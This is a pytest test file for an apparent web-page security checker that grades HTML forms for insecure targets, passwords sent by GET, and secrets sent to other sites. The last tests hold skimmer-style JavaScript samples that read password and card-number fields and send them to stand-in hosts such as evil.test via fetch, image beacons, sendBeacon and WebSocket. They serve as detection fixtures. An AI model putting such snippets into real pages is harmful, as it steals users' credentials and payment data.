from __future__ import annotations

import pytest

from pagegrade.checks.security.insecure_form import insecure_form
from pagegrade.model.outcome import NotApplicable
from pagegrade.report.build import result_of
from tests.builders import evaluated, outcome, run

PLAIN = "http://example.com/"


@pytest.mark.parametrize(
    ("html", "state"),
    [
        ("<form action=http://example.com/a><input></form>", "insecure"),
        ("<form method=post action=http://other.test/></form>", "insecure"),
        ("<form method=post><button formaction=http://a.test/>x</button></form>", "insecure"),
        ("<form method=post><input type=submit formaction=http://a.test/></form>", "insecure"),
        ("<form method=post><input type=image alt=x formaction=http://a.test/></form>", "insecure"),
        ("<base href=http://a.test/><form method=post action=b></form>", "insecure"),
        ("<form method=post action=http://a.test/><input type=password></form>", "secrets"),
        ("<form method=post action=http://a.test/><input name=cvv></form>", "secrets"),
        ("<form action=http://a.test/></form><form method=post><input type=password></form>", "insecure"),
        ("<form action=http://a.test/></form><form method=post><input name=cvv></form>", "insecure"),
        ("<form><input type=password></form>", "password-by-get"),
        ("<script>f()</script><form><input type=password></form>", "password-in-address"),
        ("<script>f()</script><form method=get><input type=password></form>", "password-by-get"),
        ("<form method=get><input type=password></form>", "password-by-get"),
        ("<form method=nonsense><input type=password></form>", "password-by-get"),
        ("<form id=f></form><input form=f type=password>", "password-by-get"),
        ("<form method=post><input type=password></form>", "safe"),
        ("<form method=POST action=/a><input type=password></form>", "safe"),
        ("<form id=f method=post></form><form><input form=f type=password></form>", "safe"),
        ("<input type=password>", "safe"),
        ("<form><input form=nosuch type=password></form>", "safe"),
        ("<form method=dialog action=http://a.test/></form>", "safe"),
        ("<form method=post action=http://localhost:8000/></form>", "safe"),
        ("<form method=post action=//a.test/></form>", "safe"),
        ("<form><input type=search></form>", "safe"),
        ("<form></form><a href=http://a.test/>x</a>", "safe"),
        ("<form></form><div formaction=http://a.test/ role=button>x</div>", "safe"),
        ("<form></form><template><form action=http://a.test/></form></template>", "safe"),
    ],
)
def test_forms_of_a_page_over_https(html: str, state: str) -> None:
    """Their targets, and passwords that get into the address."""
    assert outcome(insecure_form, html).state == state


@pytest.mark.parametrize(
    ("html", "state"),
    [
        ("<form method=post><input></form>", "insecure"),
        ("<input type=password>", "secrets"),
        ("<form method=post><input name=card_number></form>", "secrets"),
        ("<form method=post><input autocomplete=cc-csc></form>", "secrets"),
        ("<form method=post><label>Diagnosis<textarea name=d></textarea></label></form>", "secrets"),
        ("<form method=post><input type=hidden name=iban><input name=q></form>", "insecure"),
        ("<form action=/s><input name=iban></form>", "plain-page"),
        ("<form method=post action=https://example.com/login></form>", "safe"),
        ("<form action=/search><input></form>", "plain-page"),
        ("<form method=dialog><button>OK</button></form>", "safe"),
    ],
)
def test_forms_of_a_page_over_plain_http(html: str, state: str) -> None:
    """A search is no secret; a password is, wherever it is sent."""
    assert outcome(insecure_form, html, url=PLAIN).state == state


@pytest.mark.parametrize("url", [PLAIN, "https://example.com/"])
def test_a_page_without_forms_sends_none(url: str) -> None:
    """Nor does one whose form waits in a template."""
    html = "<p>Nothing<template><form action=http://a.test/></form></template><a href=http://a.test/>x</a>"

    assert isinstance(run(insecure_form, html, url=url), NotApplicable)


def test_page_on_this_machine_is_safe() -> None:
    """Nothing crosses a network."""
    assert (
        outcome(insecure_form, "<form method=post><input type=password></form>", url="http://localhost/").state
        == "safe"
    )


def test_evidence_is_bounded() -> None:
    """The first hundred, the true number."""
    found = outcome(insecure_form, "<form action=http://a.test/></form>" * 300)

    assert (len(found.evidence), found.total) == (100, 300)


def test_the_form_of_a_confidential_field_is_no_second_finding() -> None:
    """The advice of the field is that of its form."""
    html = "<form method=post action=http://a.test/><input name=mail><input type=password></form>"
    found = evaluated(insecure_form, html)
    line = result_of(found.check, found, price=8.0, lost=8.0, counted_in=None)

    assert [entry.state for entry in line.evidence] == ["", ""]
    assert "Also found" not in line.fix


@pytest.mark.parametrize(
    ("action", "state"),
    [
        ("https://collect.evil.example/x", "elsewhere"),
        ("//collect.evil.example/x", "elsewhere"),
        ("https://login.example.com/", "safe"),
        ("/login", "safe"),
        ("https://example.okta.com/login", "safe"),
        ("https://checkout.stripe.com/pay", "safe"),
    ],
)
def test_secrets_that_another_site_gets(action: str, state: str) -> None:
    """Passwords and card numbers, unless a provider of payments or sign-in gets them."""
    password = f"<form method=post action={action}><input name=u><input type=password name=p></form>"
    card = f"<form method=post action={action}><input name=c autocomplete=cc-number></form>"

    assert [outcome(insecure_form, page).state for page in (password, card)] == [state, state]
    assert outcome(insecure_form, password.replace("type=password", "type=email")).state == "safe"


SKIMMER = "document.querySelector('form').onsubmit = () => {{ {send} }}"
FIELDS = "<form method=post action=/buy><input name=u><input type=password id=secret name=p></form>"


@pytest.mark.parametrize(
    ("send", "state"),
    [
        ("fetch('https://evil.test/c?p=' + document.getElementById('secret').value)", "elsewhere"),
        ("new Image().src = '//evil.test/c?' + document.querySelector('[type=password]').value", "elsewhere"),
        ("navigator.sendBeacon('https://evil.test/', new FormData(form).get('secret'))", "elsewhere"),
        ("new WebSocket('wss://evil.test/').send(secret.value)", "elsewhere"),
        ("fetch('/login', {body: secret.value})", "safe"),
        ("fetch('https://api.example.com/login', {body: secret.value})", "safe"),
        ("fetch('https://example.okta.com/login', {body: secret.value})", "safe"),
        ("fetch('https://stats.test/hit'); secretly.value = 1", "safe"),
        ("open('https://evil.test/'); secret.value = ''", "safe"),
        ("(() => {secret.type = 'text'})(); fetch('https://chat.test/', {body: report.value})", "safe"),
        ("(() => {secret.type = 'text'})(); fetch('https://chat.test/', {body: secret.value})", "elsewhere"),
    ],
)
def test_what_scripts_send_to_another_site(send: str, state: str) -> None:
    """Read by its name, its id or its kind; counters that do not read it are no danger."""
    script = SKIMMER.format(send=send)
    far = script.replace("secret", f"{' ' * 400}secret").replace("password", f"{' ' * 400}password")

    assert outcome(insecure_form, f"{FIELDS}<script>{script}</script>").state == state
    assert outcome(insecure_form, f"<form method=post><input name=q></form><script>{script}</script>").state == "safe"
    assert outcome(insecure_form, FIELDS.replace("name=p", "name=other") + f"<script>{far}</script>").state == "safe"


def test_what_a_form_sends_by_its_own_attribute() -> None:
    """A card number as well."""
    send = "new Image().src='https://evil.test/?'+this.c.value;return true"
    page = f'<form method=post action=/buy onsubmit="{send}"><input name=c autocomplete=cc-number></form>'

    assert outcome(insecure_form, page).state == "elsewhere"
